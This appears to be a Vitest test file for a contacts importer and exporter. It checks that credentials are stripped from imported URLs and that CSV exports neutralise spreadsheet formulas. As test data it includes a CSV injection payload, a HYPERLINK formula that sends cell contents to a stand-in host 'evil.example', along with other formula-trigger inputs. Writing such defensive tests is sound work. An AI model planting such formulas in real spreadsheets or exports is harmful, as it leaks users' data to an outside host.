import { expect, test } from "vitest";
import { onEachDatabase } from "../../test/each-database.ts";
import { importer } from "../../test/imported.ts";
import { textOf } from "../../test/sample-files.ts";
import { exportContacts } from "./export-contacts.ts";

onEachDatabase(({ createUrl, open }) => {
  const imported = importer({ createUrl, open });

  test("an import drops user names and passwords from URLs", async () => {
    const { source } = await imported(
      "email,uri,network_a_url\nann@a.example,https://bob:pw@www.a.example/team?x=a@b,https://bob@net.example/ann",
    );
    const contact = await source.find("ann@a.example");
    expect(contact?.evidence.map(({ uri }) => uri)).toEqual(["https://www.a.example/team?x=a@b"]);
    expect(contact?.networkAUrl).toBe("https://net.example/ann");
  });

  test("an export to CSV neutralises texts that a spreadsheet would run, and its import restores them", async () => {
    const titles = [
      '=HYPERLINK("http://evil.example/"&A1)',
      "@SUM(1)",
      "-2+3",
      "+1 555",
      "'quoted",
      "a;=1",
      "plain",
    ];
    const { database, source } = await imported(
      `email,position,phone\n${titles.map((title, index) => `p${index}@a.example,"${title.replaceAll('"', '""')}",+41 55 ${index}`).join("\n")}`,
    );
    const csv = await textOf(exportContacts(database, { format: "csv" }));
    expect(csv.match(/(?<=[,"])'?[=@+-][^,]/g)?.every((start) => start.startsWith("'"))).toBe(true);
    expect(csv).toContain("'+41 55 3");
    const again = await imported(csv);
    for (const [index, title] of titles.entries()) {
      const address = `p${index}@a.example`;
      expect((await source.find(address))?.position).toBe(title);
      expect(await again.source.find(address)).toEqual(await source.find(address));
    }
  });
});
